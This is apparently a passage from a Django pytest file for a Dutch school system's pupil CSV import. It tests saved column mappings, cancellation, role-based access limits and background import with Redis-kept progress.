    assert page.status_code == 200 and "Familienaam" in page.content.decode()
    # Next time the saved mapping goes straight to the preview.
    response = upload(client, po.school, "eigen.csv", own, bron=f"profiel:{profiel.pk}")
    assert "voorbeeld" in response.url
    assert Leerlingimport.objects.get(status=Leerlingimport.Status.VOORBEELD).profiel == profiel
    (replaced,) = Leerlingimport.objects.filter(status=Leerlingimport.Status.VERVALLEN)
    assert replaced.bestand == ""  # the earlier upload's file is gone


def test_admin_cancel_removes_the_file(client, po):
    client.force_login(po.user)
    upload(client, po.school, "parnassys.csv")
    run = Leerlingimport.objects.get()
    client.post(reverse("admin:leerlingen_leerlingimport_annuleren", args=[run.pk]))
    run.refresh_from_db()
    assert run.status == Leerlingimport.Status.GEANNULEERD and run.bestand == ""
    assert Leerling.objects.count() == 0


def test_admin_who_may_import(client, po):
    client.force_login(po.user)
    upload(client, po.school, "parnassys.csv")
    run = Leerlingimport.objects.get()
    preview = reverse("admin:leerlingen_leerlingimport_voorbeeld", args=[run.pk])

    teacher = UserFactory(username="juf")
    grant_role(user=teacher, rol=Rol.LEERKRACHT, container=po.school.groepen.first())
    client.force_login(teacher)
    assert client.get(reverse("admin:leerlingen_leerlingimport_upload")).status_code == 403
    assert client.get(preview).status_code == 404

    other = UserFactory(username="directeur_elders")
    grant_role(
        user=other, rol=Rol.DIRECTEUR, container=SchoolFactory(bestuur=po.bestuur, brin="09AA")
    )
    client.force_login(other)
    assert client.get(preview).status_code == 404
    assert (
        client.post(
            reverse("admin:leerlingen_leerlingimport_bevestigen", args=[run.pk]), {"digest": "x"}
        ).status_code
        == 404
    )
    assert (
        client.get(reverse("admin:leerlingen_leerlingimport_change", args=[run.pk])).status_code
        == 404
    )
    # Nor can they upload for a school that is not theirs.
    response = upload(client, po.school, "parnassys.csv")
    assert response.status_code == 200 and Leerlingimport.objects.count() == 1

    fg = UserFactory(username="fg_rivierenland")
    grant_role(user=fg, rol=Rol.FG, container=po.bestuur)
    client.force_login(fg)
    assert client.get(reverse("admin:leerlingen_leerlingimport_changelist")).status_code == 200
    assert client.get(preview).status_code == 404
    assert client.get(reverse("admin:leerlingen_leerlingimport_upload")).status_code == 403


# --- large files: confirmed in the request, imported in the background -----------------------


@pytest.fixture
def background(monkeypatch):
    monkeypatch.setattr(services, "BACKGROUND_ROWS", 3)


def _job():
    from core.models import Opdracht

    return Opdracht.objects.get(soort="leerlingen.pupil_import")


def test_a_large_file_is_imported_in_the_background_with_progress(client, po, background):
    from core import outbox

    client.force_login(po.user)
    upload(client, po.school, "parnassys.csv")
    run = Leerlingimport.objects.get()
    preview = reverse("admin:leerlingen_leerlingimport_voorbeeld", args=[run.pk])
    digest = client.get(preview).context["plan"].digest
    response = client.post(
        reverse("admin:leerlingen_leerlingimport_bevestigen", args=[run.pk]), {"digest": digest}
    )
    assert response.url == preview
    run.refresh_from_db()
    assert (
        run.status == Leerlingimport.Status.BEZIG
        and run.bevestigd_digest == digest
        and run.uitgevoerd_door == po.user
    )
    assert Leerling.objects.count() == 0
    page = client.get(preview)
    assert page.status_code == 200 and "Waiting for the background worker" in page.content.decode()
    # Cancelling or re-confirming a running import does nothing.
    client.post(reverse("admin:leerlingen_leerlingimport_annuleren", args=[run.pk]))
    assert Leerlingimport.objects.get().status == Leerlingimport.Status.BEZIG

    job = _job()
    assert outbox.run(job.pk) == "done"  # what the worker does
    run.refresh_from_db()
    assert run.status == Leerlingimport.Status.INGELEZEN and run.bestand == ""
    assert Leerling.objects.count() == 8
    assert not Leerling.history.exclude(history_user=po.user).exists()
    assert StoredProgress(run.pk).read() is None  # progress cleared
    assert outbox.run(job.pk) == "skipped"  # sent twice: done once
    assert services.carry_out_confirmed(run_id=run.pk) == "not waiting"
    response = client.get(preview + "?klaar=1")
    assert response.url == reverse("admin:leerlingen_leerlingimport_change", args=[run.pk])


def test_a_background_import_refused_goes_back_to_the_preview_with_the_reason(
    client, po, background
):
    from core import outbox

    client.force_login(po.user)
    upload(client, po.school, "parnassys.csv")
    run = Leerlingimport.objects.get()
    preview = reverse("admin:leerlingen_leerlingimport_voorbeeld", args=[run.pk])
    digest = client.get(preview).context["plan"].digest
    client.post(
        reverse("admin:leerlingen_leerlingimport_bevestigen", args=[run.pk]), {"digest": digest}
    )
    LeerlingFactory(
        groep=po.school.groepen.first(), leerlingnummer="2301"
    )  # the register changes meanwhile
    assert outbox.run(_job().pk) == "done"
    run.refresh_from_db()
    assert (
        run.status == Leerlingimport.Status.VOORBEELD and "changed since the preview" in run.melding
    )
    assert Leerling.objects.count() == 1 and Ouder.objects.count() == 0
    page = client.get(preview)
    assert "changed since the preview" in page.content.decode()
    assert page.context["plan"].counts()["leerlingen_nieuw"] == 7


def test_progress_is_kept_in_redis_outside_the_transaction():
    progress = StoredProgress(987654)
    rows = list(progress(list(range(1200)), desc="x"))
    assert len(rows) == 1200 and progress.read() == {"phase": "check", "done": 1000, "total": 1200}
    bar = progress(None, total=50)
    bar.update(20)
    assert progress.read() == {"phase": "write", "done": 20, "total": 50}
    progress.clear()
    assert progress.read() is None
